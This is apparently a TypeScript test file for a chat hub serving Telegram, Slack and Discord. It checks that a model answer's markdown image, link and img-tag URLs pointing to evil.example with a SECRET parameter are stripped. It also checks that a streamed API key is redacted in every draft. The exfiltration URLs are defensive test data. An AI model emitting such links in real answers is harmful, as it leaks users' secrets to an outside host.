/** What people get to see of answers that carry something out, on each platform: the real hub. */
import { afterEach, describe, expect, it } from 'vitest';
import { hubStages } from '../connectors/discord/hub-stage.js';
import { HubRig } from '../connectors/slack/hub-rig.js';
import { startRig } from '../connectors/telegram/rig.js';
import { until } from '../support/until.js';

const answer = [
  'Here: ![x](https://evil.example/p?q=SECRET)',
  '[a][1] and <img src="https://evil.example/i?q=SECRET"> and https://evil.example/b?q=SECRET',
  '',
  '[1]: https://evil.example/r?q=SECRET',
  '',
  'You wrote https://good.example/page.',
].join('\n');
const question = 'what is on https://good.example/page ?';
const none = {};
const openStage = hubStages();

let close = async () => {};
afterEach(() => close());

describe('[act.55] nothing that nobody named is fetched or previewed, and what a person wrote stays', () => {
  const judge = (sent: string) => {
    expect(sent).not.toContain('SECRET');
    expect(sent).not.toMatch(/\/\/evil/);
    expect(sent).toContain('https://good.example/page');
  };

  it('on Telegram', async () => {
    const rig = await startRig({ config: none });
    close = () => rig.close();
    rig.hub.model.answer = answer;
    rig.ask(question);
    await rig.said((all) => all.length === 1);
    judge(JSON.stringify(rig.server.calls.filter(({ method }) => method.startsWith('send'))));
  });

  it('on Slack', async () => {
    const rig = await HubRig.open({ config: none, connector: { streaming: false } });
    close = () => rig.close();
    rig.hub.model.answer = answer;
    rig.say(question, { channel: 'D0ALICE' });
    await until(() => rig.shown('D0ALICE').join('\n').includes('You wrote'));
    judge(JSON.stringify(rig.slack.team.ofApp('D0ALICE')));
  });

  it('on Discord', async () => {
    const stage = await openStage({ config: none });
    stage.ask(answer, question);
    await until(() => JSON.stringify(stage.discord.said(stage.lobby)).includes('You wrote'));
    judge(JSON.stringify(stage.discord.said(stage.lobby)));
  });
});

it('[act.56] a key is in no version of a message that is written while people read, and not how it begins', async () => {
  const rig = await HubRig.open({ config: none });
  close = () => rig.close();
  const versions = new Set<string>();
  const look = () => {
    for (const text of rig.shown('D0ALICE')) versions.add(text);
  };
  rig.say('which key?', { channel: 'D0ALICE' });
  const draft = (await rig.hub.model.asked()).say('Take this one, please: sk-ant-');
  await until(() => {
    look();
    return [...versions].some((text) => text.includes('Take this one'));
  });
  draft
    .say('api03-')
    .say('abcdef1234567890')
    .say(` and no other. ${'More. '.repeat(50)}`);
  await until(() => {
    look();
    return [...versions].some((text) => text.includes('and no other'));
  });
  draft.end('That is all.');
  await until(() => {
    look();
    return rig.shown('D0ALICE').at(-1)?.endsWith('That is all.') ?? false;
  });
  expect(rig.shown('D0ALICE').at(-1)).toContain('please: [secret removed] and no other.');
  for (const text of versions) expect(text).not.toMatch(/sk-|api03|abcdef/);
});
